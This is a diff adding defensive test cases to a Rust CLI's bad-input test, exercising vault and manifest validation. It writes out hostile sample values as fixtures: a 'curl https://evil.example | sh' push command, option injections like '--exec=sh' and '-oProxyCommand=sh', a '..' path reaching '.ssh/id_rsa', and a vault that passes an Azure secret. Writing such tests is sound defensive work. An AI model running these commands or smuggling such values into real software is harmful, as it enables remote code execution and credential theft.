@@ -662,6 +662,148 @@ async fn the_bad_input_table_is_current() {
     )
     .await;
 
+    let d = t.case_dir();
+    std::fs::write(
+        d.join(HIVE),
+        std::fs::read_to_string(d.join(HIVE)).unwrap()
+            + "vault:\n  backend: command\n  push: [sh, -c, \"curl https://evil.example | sh\", \"{path}\"]\n",
+    )
+    .unwrap();
+    t.run(
+        &d,
+        v,
+        "a service manifest that declares a vault (a program to run)",
+        &["plan", HIVE],
+        &[],
+    )
+    .await;
+    let d = t.case_dir();
+    std::fs::write(
+        d.join(HIVE),
+        std::fs::read_to_string(d.join(HIVE)).unwrap() + "vault: team-pas\n",
+    )
+    .unwrap();
+    std::fs::write(
+        d.join("manifests/defaults.yaml"),
+        std::fs::read_to_string(d.join("manifests/defaults.yaml")).unwrap()
+            + "\nvaults:\n  team-pass:\n    backend: command\n    preset: pass\n",
+    )
+    .unwrap();
+    t.run(
+        &d,
+        v,
+        "a service manifest naming a vault defaults.yaml does not declare",
+        &["plan", HIVE],
+        &[],
+    )
+    .await;
+    let d = t.case_dir();
+    std::fs::write(
+        d.join(HIVE),
+        std::fs::read_to_string(d.join(HIVE)).unwrap()
+            + "overrides:\n  vault_path: \"--exec=sh\"\n",
+    )
+    .unwrap();
+    t.run(
+        &d,
+        v,
+        "a vault path that reads as an option",
+        &["plan", HIVE],
+        &[],
+    )
+    .await;
+    let d = t.case_dir();
+    std::fs::write(
+        d.join(HIVE),
+        std::fs::read_to_string(d.join(HIVE)).unwrap()
+            + "overrides:\n  vault_path: \"hive/../../../.ssh/id_rsa\"\n",
+    )
+    .unwrap();
+    t.run(&d, v, "a vault path with `..`", &["plan", HIVE], &[])
+        .await;
+    let d = t.case_dir();
+    t.set_vault(
+        &d,
+        "vault:\n  backend: command\n  preset: pass\n  env: [AZURE_CLIENT_SECRET]\n",
+    );
+    t.run(
+        &d,
+        v,
+        "a vault declaration that passes the operator's Azure secret",
+        &["plan", HIVE],
+        &[],
+    )
+    .await;
+    let d = t.case_dir();
+    t.set_vault(
+        &d,
+        "vault:\n  backend: command\n  push: [./push.sh, \"{path}\"]\n  get: [./get.sh, \"{path}\"]\n  missing: {exit: [1], stderr: \"is not in the password store\"}\n",
+    );
+    t.script(&d, "push.sh", "cat > /dev/null");
+    t.script(
+        &d,
+        "get.sh",
+        "echo 'gpg: decryption failed: No secret key' >&2; exit 2",
+    );
+    t.run(
+        &d,
+        v,
+        "the vault's get fails and it is not the missing-entry rule (a broken pass store)",
+        &["apply", HIVE, "--out", "out"],
+        &[],
+    )
+    .await;
+    t.emu.reset();
+    let d = t.case_dir();
+    t.run(
+        &d,
+        v,
+        "`send` with a vault that has no `send:` command",
+        &["send", HIVE, "--to", "jane@axelabs.ai"],
+        &[],
+    )
+    .await;
+    let d = t.case_dir();
+    t.set_vault(
+        &d,
+        "vault:\n  backend: command\n  push: [./push.sh, \"{path}\"]\n  get: [./get.sh, \"{path}\"]\n  send: [./send.sh, \"{path}\", \"{to}\"]\n",
+    );
+    t.script(&d, "push.sh", "cat > /dev/null");
+    t.script(&d, "get.sh", "exit 0");
+    t.script(&d, "send.sh", "cat > /dev/null");
+    t.run(
+        &d,
+        v,
+        "`send` when the vault holds nothing yet",
+        &["send", HIVE, "--to", "jane@axelabs.ai"],
+        &[],
+    )
+    .await;
+    let d = t.case_dir();
+    t.set_vault(
+        &d,
+        "vault:\n  backend: command\n  push: [./push.sh, \"{path}\"]\n  send: [./send.sh, \"{path}\", \"{to}\"]\n",
+    );
+    t.script(&d, "push.sh", "cat > /dev/null");
+    t.script(&d, "send.sh", "cat > /dev/null");
+    t.run(
+        &d,
+        v,
+        "`send` with a vault that has no `get` command",
+        &["send", HIVE, "--to", "jane@axelabs.ai"],
+        &[],
+    )
+    .await;
+    let d = t.case_dir();
+    t.run(
+        &d,
+        v,
+        "`send` to a recipient that reads as an option",
+        &["send", HIVE, "--to=-oProxyCommand=sh"],
+        &[],
+    )
+    .await;
+
     // ---- Merge conflicts ---------------------------------------------------------------------
     let c = "merge";
     let d = t.case_dir();
